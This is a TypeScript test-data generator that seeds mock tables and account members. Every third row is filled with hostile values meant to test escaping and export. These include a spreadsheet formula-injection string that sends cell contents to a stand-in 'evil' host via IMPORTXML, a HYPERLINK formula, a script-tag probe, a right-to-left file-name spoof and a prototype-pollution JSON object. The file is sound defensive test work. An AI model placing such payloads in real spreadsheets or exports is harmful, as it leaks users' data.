// Generators of realistic and hostile values, whole seeded tables and account members (all from the seeded RNG).

import { choicesOf, makeColumn, textMax, titleColumn } from './columns.js';
import type { Rng } from './rng.js';
import type { Store } from './store.js';
import type {
  Column,
  ColumnType,
  JsonObject,
  JsonValue,
  SeedTableOptions,
  TableData,
  User,
} from './types.js';

export const FIRST_NAMES = [
  'Ada',
  'Björn',
  'Chloé',
  'Dmitri',
  'Eve',
  'Fatima',
  'Gustav',
  'Hiro',
  'Ines',
  'José',
  'Kai',
  'Lena',
  'Mateo',
  'Nia',
  'Olu',
  'Priya',
  'Quinn',
  'Rosa',
  'Søren',
  'Tariq',
  'Uma',
  'Viktor',
  'Wei',
  'Yara',
  'Zoë',
];
export const LAST_NAMES = [
  'Andersen',
  'Brown',
  'Castillo',
  'Dubois',
  'Eriksen',
  'Fischer',
  'García',
  'Haddad',
  'Ivanova',
  'Jensen',
  'Kowalski',
  'López',
  'Müller',
  'Nakamura',
  "O'Brien",
  'Patel',
  'Rossi',
  'Schmidt',
  'Tanaka',
  'Walsh',
];
const COMPANIES = [
  'Initech',
  'Umbrella Ltd',
  'Stark & Sons',
  'Wayne Enterprises',
  'Hooli',
  'Vandelay Industries',
  'Soylent GmbH',
  'Tyrell Corp',
  'Cyberdyne',
  'Wonka AG',
  'Müller & Söhne KG',
  'Łódź Logistics',
];
const WORDS = [
  'renewal',
  'pilot',
  'upgrade',
  'onboarding',
  'follow-up',
  'invoice',
  'quote',
  'demo',
  'contract',
  'support',
  'migration',
  'workshop',
  'license',
  'expansion',
  'review',
  'budget',
  'kickoff',
  'handover',
];
const TAGS = [
  'enterprise',
  'smb',
  'urgent',
  'q1',
  'q2',
  'q3',
  'q4',
  'partner',
  'inbound',
  'outbound',
  'emea',
];

/** Hostile text values, in the order the generator places them. */
export const HOSTILE_TEXTS: readonly string[] = [
  '=IMPORTXML("http://evil/?"&A1,"//a")',
  '+cmd',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=HYPERLINK("http://evil")',
  '00123',
  '2024-01-05',
  'TRUE',
  '50%',
  '1e5',
  'Zoë 🚀 naïve café',
  'مرحبا بالعالم',
  '\u202Egnp.exe',
  'bell\u0007null\u0000esc\u001b',
  'line one\nline two',
  '  padded  ',
  '<script>alert(1)</script>',
  '',
];

/** Hostile JSON objects (own `__proto__` / `constructor` members are data, never prototypes). */
export function hostileObjects(): JsonObject[] {
  return [
    JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}') as JsonObject,
    { nested: { deep: { deeper: [1, 'two', { three: null }] } } },
    {},
    { formula: '=1+1', emoji: '🎉', big: 2 ** 53 + 2 },
  ];
}

const HOSTILE_NUMBERS: readonly number[] = [0, -1, 0.1 + 0.2, 1e21, -1234567.891, 2 ** 53, 1e-7];
const HOSTILE_DATES: readonly string[] = ['1900-01-01', '2024-02-29', '9999-12-31', '1970-01-01'];
const HOSTILE_TAGS: readonly string[][] = [['=1+1', '@x'], [], ['a,b', 'c;d'], ['🎉 party', '  '], ['00123']];

/** Text of exactly `length` UTF-16 code units (no surrogate pairs, so cutting never splits a character). */
export function longText(length: number): string {
  const chunk = 'Lorem ipsum dolor sit amet, consectetur – Grüße ☃ ';
  return chunk.repeat(Math.ceil(length / chunk.length) + 1).slice(0, length);
}

function pad(n: number, width: number): string {
  return String(n).padStart(width, '0');
}

/** A realistic value for a column (type-correct). */
export function realisticValue(column: Column, rng: Rng, index: number): JsonValue {
  switch (column.type) {
    case 'text': {
      const max = textMax(column);
      const options = [
        `${rng.pick(FIRST_NAMES)} ${rng.pick(LAST_NAMES)}`,
        `${rng.pick(COMPANIES)} ${rng.pick(WORDS)}`,
        `${rng.pick(WORDS)} #${index}`,
        `${rng.pick(COMPANIES)}: ${rng.pick(WORDS)}, ${rng.pick(WORDS)} and ${rng.pick(WORDS)}.`,
      ];
      return rng.pick(options).slice(0, max);
    }
    case 'number':
      return rng.next() < 0.5 ? rng.int(100000) : Math.round(rng.next() * 1e6) / 100;
    case 'checkbox':
      return rng.next() < 0.5;
    case 'date':
      return `${2020 + rng.int(6)}-${pad(1 + rng.int(12), 2)}-${pad(1 + rng.int(28), 2)}`;
    case 'multiSelect': {
      const tags = new Set<string>();
      const n = rng.int(4);
      const from = choicesOf(column) ?? TAGS;
      for (let i = 0; i < n; i++) tags.add(rng.pick(from));
      return [...tags];
    }
    case 'select':
      return rng.pick(choicesOf(column) ?? []);
    case 'json':
      return {
        source: rng.pick(['web', 'import', 'api']),
        score: rng.int(100),
        flags: { vip: rng.next() < 0.2 },
      };
  }
}

/** The `k`-th hostile value for a column (type-correct; text never over the column's max). */
export function hostileValue(column: Column, k: number): JsonValue {
  switch (column.type) {
    case 'text': {
      const max = textMax(column);
      // Every (texts+1)-th hostile text is the longest text the column takes.
      const all = [...HOSTILE_TEXTS, longText(max)];
      const text = all[k % all.length] as string;
      return text.length <= max ? text : text.slice(0, max);
    }
    case 'number':
      return HOSTILE_NUMBERS[k % HOSTILE_NUMBERS.length] as number;
    case 'checkbox':
      return k % 2 === 0;
    case 'date':
      return HOSTILE_DATES[k % HOSTILE_DATES.length] as string;
    case 'multiSelect': {
      // Choices, when the column has them, are what it takes: every other call gives none or all of them.
      const choices = choicesOf(column);
      if (choices) return k % 2 === 0 ? [] : [...choices];
      return [...(HOSTILE_TAGS[k % HOSTILE_TAGS.length] as string[])];
    }
    case 'select': {
      const choices = choicesOf(column) ?? [];
      return choices[k % choices.length] ?? null;
    }
    case 'json': {
      const all = hostileObjects();
      return all[k % all.length] as JsonObject;
    }
  }
}

const CYCLE: readonly { type: ColumnType; name: string; max?: number }[] = [
  { type: 'text', name: 'Company', max: 1000 },
  { type: 'number', name: 'Amount' },
  { type: 'checkbox', name: 'Active' },
  { type: 'date', name: 'Due' },
  { type: 'multiSelect', name: 'Tags' },
  { type: 'json', name: 'Meta' },
  { type: 'text', name: 'Notes', max: 50000 },
];

/** Columns for a generated table: the title column, then `count - 1` columns cycling through every type. */
export function generatedColumns(count: number): Column[] {
  const columns = [titleColumn()];
  for (let i = 1; i < count; i++) {
    const spec = CYCLE[(i - 1) % CYCLE.length] as (typeof CYCLE)[number];
    const round = Math.floor((i - 1) / CYCLE.length);
    const suffix = round === 0 ? '' : ` ${round + 1}`;
    const id = `c${pad(i, 2)}_${spec.type}`;
    columns.push(
      makeColumn(id, spec.name + suffix, spec.type, spec.max === undefined ? {} : { max: spec.max }),
    );
  }
  return columns;
}

/**
 * Fills a (new or replaced) table with `rows` rows: realistic values, every 3rd row hostile in every column
 * (cycling through the hostile lists in order, so the first hostile text is the IMPORTXML formula), and a
 * null now and then.
 */
export function seedTable(store: Store, rng: Rng, options: SeedTableOptions): TableData {
  const app = store.app(options.appId);
  const userId =
    options.asUserId ?? store.state.users.find((u) => u.accountId === app.accountId)?.id ?? 'u_system';
  const table = store.putTable(options.appId, {
    ...(options.tableId === undefined ? {} : { id: options.tableId }),
    name: options.name ?? 'Seeded',
    columns: generatedColumns(Math.max(1, options.columns ?? 7)),
  });
  const hostile = options.hostile ?? true;
  const modifiedAt = options.modifiedAt === undefined ? undefined : Date.parse(options.modifiedAt);
  let k = 0;
  for (let i = 0; i < options.rows; i++) {
    const values: Record<string, JsonValue> = {};
    const isHostile = hostile && i % 3 === 2;
    for (const column of table.columns) {
      let value: JsonValue;
      if (isHostile) value = hostileValue(column, k);
      else if (column.id !== 'title' && rng.next() < 0.05) value = null;
      else value = realisticValue(column, rng, i + 1);
      Object.defineProperty(values, column.id, {
        value,
        enumerable: true,
        writable: true,
        configurable: true,
      });
    }
    if (isHostile) k++;
    const row = store.createRow(table, values, userId);
    if (modifiedAt !== undefined) {
      // A minute apart, the last row at `modifiedAt`.
      row.cOn = new Date(modifiedAt - (options.rows - 1 - i) * 60_000).toISOString();
      row.lMod = row.cOn;
    }
  }
  return table;
}

/** Generated members of an account: `count` users, every 7th 'invited', e-mails `member0001@<domain>`. */
export function generateMembers(store: Store, rng: Rng, accountId: string, count: number): User[] {
  const account = store.account(accountId);
  if (!account) throw new Error(`No account "${accountId}".`);
  const domain =
    store.state.users.find((u) => u.accountId === accountId)?.emailId.split('@')[1] ?? 'example.test';
  const start = store.state.users.filter((u) => u.accountId === accountId && u.id.includes('_m')).length;
  const added: User[] = [];
  for (let i = start + 1; i <= start + count; i++) {
    const user: User = {
      id: `u_${accountId.replace(/^acc_/, '')}_m${pad(i, 4)}`,
      accountId,
      emailId: `member${pad(i, 4)}@${domain}`,
      orgId: account.orgId,
      firstName: rng.pick(FIRST_NAMES),
      lastName: rng.pick(LAST_NAMES),
      activationStatus: i % 7 === 0 ? 'invited' : 'active',
    };
    store.state.users.push(user);
    added.push(user);
  }
  return added;
}
